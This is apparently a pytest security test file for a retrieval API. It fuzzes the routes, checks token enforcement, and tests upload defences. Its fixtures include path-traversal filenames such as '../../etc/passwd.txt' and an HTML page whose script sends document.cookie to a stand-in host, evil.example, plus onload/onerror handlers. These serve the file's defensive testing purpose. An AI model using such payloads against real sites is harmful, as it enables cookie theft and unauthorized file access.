"""The HTTP API under hostile input, in-process (ASGI) over a real index (Chroma, BM25,
spaCy) of articles the fake embedder embeds: what is checked is the API's handling of
requests, which no vector changes.

- Fuzzed from its own OpenAPI spec with Schemathesis: no request may make it answer 5xx.
- With RAG_API_TOKEN set, every route in the spec but /health refuses a missing,
  wrong or malformed token with 401, before it reads the request.
- Uploads: traversal, absolute paths, a link in the articles folder that leads
  outside it, too many files at once, HTML carrying scripts (stored and served as
  text, never as markup).
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
import schemathesis
from fastapi.testclient import TestClient
from hypothesis import HealthCheck
from hypothesis import settings as hypothesis_settings

from rag.api import create_app
from rag.ask.pipeline import Pipeline
from rag.indexing.indexer import sync
from rag.settings import Settings
from tests.conftest import SAMPLE
from tests.fake_embed import FakeEmbedder

TOKEN = "s3cret-token"


@pytest.fixture(scope="module")
def api(tmp_path_factory, fake_embedder: FakeEmbedder):
    """An app over the indexed sample corpus, small upload limits, no token."""
    root = tmp_path_factory.mktemp("api-security")
    shutil.copytree(SAMPLE, root / "articles")
    settings = Settings(
        articles_dir=root / "articles",
        index_dir=root / "index",
        max_file_mb=0.05,
        max_upload_files=3,
    )
    sync(settings, embedder=fake_embedder)
    pipeline = Pipeline(settings, embedder=fake_embedder)
    app = create_app(settings, pipeline)
    yield app, root
    pipeline.close()


class LateApp:
    """The schema is loaded when pytest imports this module, long before the indexed
    app exists; this forwards to whichever app the ``fuzzed_app`` fixture installs."""

    def __init__(self) -> None:
        self.app = create_app(Settings())  # the same routes, so the same spec

    async def __call__(self, scope, receive, send) -> None:
        await self.app(scope, receive, send)


LATE = LateApp()
schema = schemathesis.openapi.from_asgi("/openapi.json", LATE)
FUZZED: list[int] = []


@pytest.fixture(scope="module")
def fuzzed_app(api):
    idle, LATE.app = LATE.app, api[0]
    yield
    LATE.app = idle


def check(case) -> None:
    response = case.call()
    FUZZED.append(response.status_code)
    assert response.status_code < 500, (case.method, case.path, case.body, response.text)
    if response.status_code >= 400:
        assert response.json()["error"].strip(), (case.method, case.path, response.text)


FAST = schema.exclude(method="POST", path="/index")
REINDEX = schema.include(method="POST", path="/index")  # a rebuild embeds the corpus again


def fuzzed(max_examples: int) -> hypothesis_settings:
    """Hypothesis settings for the fuzz tests: a real server answers, so no deadline."""
    return hypothesis_settings(
        max_examples=max_examples,
        deadline=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
    )


@pytest.mark.usefixtures("fuzzed_app")
@FAST.parametrize()
@fuzzed(max_examples=60)
def test_no_generated_request_makes_the_api_fail(case):
    check(case)


@pytest.mark.usefixtures("fuzzed_app")
@REINDEX.parametrize()
@fuzzed(max_examples=4)
def test_no_generated_reindex_request_makes_the_api_fail(case):
    check(case)


def test_the_fuzzing_reached_every_route_and_got_answers():
    # Run after the fuzz tests above (file order): they sent requests and all were answered.
    if not FUZZED:
        pytest.skip("the fuzz tests were not selected")
    assert len(FUZZED) > 300 and max(FUZZED) < 500


# --- the token ------------------------------------------------------------------------


@pytest.fixture(scope="module")
def guarded(api):
    _, root = api
    settings = Settings(articles_dir=root / "articles", index_dir=root / "index", api_token=TOKEN)
    with TestClient(create_app(settings)) as client:
        yield client


def routes(client: TestClient) -> list[tuple[str, str]]:
    spec = client.get("/openapi.json").json()
    return [
        (method.upper(), path.replace("{article_id}", "x"))
        for path, operations in spec["paths"].items()
        for method in operations
    ]


@pytest.mark.parametrize(
    "authorization",
    [None, "Bearer wrong", f"Basic {TOKEN}", f"Bearer {TOKEN[:-1]}", f"bearer{TOKEN}", TOKEN, ""],
)
def test_every_route_but_health_refuses_a_missing_or_wrong_token(guarded, authorization):
    headers = {} if authorization is None else {"Authorization": authorization}
    checked = 0
    for method, path in routes(guarded):
        response = guarded.request(method, path, headers=headers)
        if path == "/health":
            assert response.status_code == 200
            continue
        # Refused before the body is read: no 422 telling a stranger what to send.
        assert response.status_code == 401, (method, path, response.text)
        assert "RAG_API_TOKEN" in response.json()["error"]
        checked += 1
    assert checked >= 6  # /ask, /chat, /articles (GET, POST), /articles/{id}, /index


def test_the_right_token_is_let_through(guarded):
    ok = guarded.get("/articles", headers={"Authorization": f"Bearer {TOKEN}"})
    assert ok.status_code == 200 and len(ok.json()) >= 5


# --- uploads ----------------------------------------------------------------------------


def upload(app, files, **params):
    with TestClient(app) as client:
        return client.post("/articles", files=files, params=params)


def test_a_link_to_outside_the_folder_is_never_written_through(api, tmp_path: Path):
    app, root = api
    secret = tmp_path / "secret.txt"
    secret.write_text("outside the articles folder")
    link = root / "articles" / "linked.txt"
    link.symlink_to(secret)
    try:
        for overwrite in (False, True):
            response = upload(
                app, [("files", ("linked.txt", b"overwritten", "text/plain"))], overwrite=overwrite
            )
            assert response.status_code in (400, 409), response.text
        assert secret.read_text() == "outside the articles folder"
        assert link.is_symlink()
    finally:
        link.unlink()


def test_traversal_names_and_too_many_files_change_nothing(api):
    app, root = api
    before = sorted(p.name for p in (root / "articles").iterdir())
    for name in ("../../etc/passwd.txt", "/etc/passwd.txt", "..\\..\\x.txt", "a/../../b.txt"):
        response = upload(app, [("files", (name, b"text", "text/plain"))])
        assert response.status_code == 400, (name, response.text)
    many = [("files", (f"many_{n}.txt", b"Some text", "text/plain")) for n in range(4)]
    response = upload(app, many)
    assert response.status_code == 413 and "RAG_MAX_UPLOAD_FILES" in response.json()["error"]
    big = upload(app, [("files", ("big.txt", b"word " * 20_000, "text/plain"))])
    assert big.status_code == 413 and "RAG_MAX_FILE_MB" in big.json()["error"]
    assert sorted(p.name for p in (root / "articles").iterdir()) == before


HOSTILE_HTML = b"""<html><head><title>Council minutes</title>
<script>fetch('https://evil.example/steal?c=' + document.cookie)</script></head>
<body onload="alert('onload')"><article><h1>Council minutes</h1>
<p>The council met on Tuesday to discuss the harbour budget and the new ferry timetable.</p>
<p>A resident read out &lt;script&gt;alert("pwned")&lt;/script&gt; to show what the old
website allowed, and the clerk promised a fix.</p>
<img src=x onerror="alert('img')"><script>alert('inline')</script></article></body></html>"""


def test_html_with_scripts_is_stored_and_served_as_text(api):
    app, _ = api
    response = upload(app, [("files", ("minutes.html", HOSTILE_HTML, "text/html"))])
    assert response.status_code == 201, response.text
    with TestClient(app) as client:
        summary = client.post("/index").json()
        assert summary["added"] == ["minutes.html"]
        article = client.get("/articles/minutes.html")
        assert article.headers["content-type"].startswith("application/json")
        text = article.json()["text"]
        # The scripts the page ran are gone; the tag the article quotes is plain text.
        assert "evil.example" not in text and "alert('inline')" not in text
        assert "onerror" not in text and "onload" not in text
        assert '<script>alert("pwned")</script>' in text
        asked = client.post("/ask", json={"question": "What did the resident read out?"})
        assert asked.status_code == 200, asked.text
        assert asked.headers["content-type"].startswith("application/json")
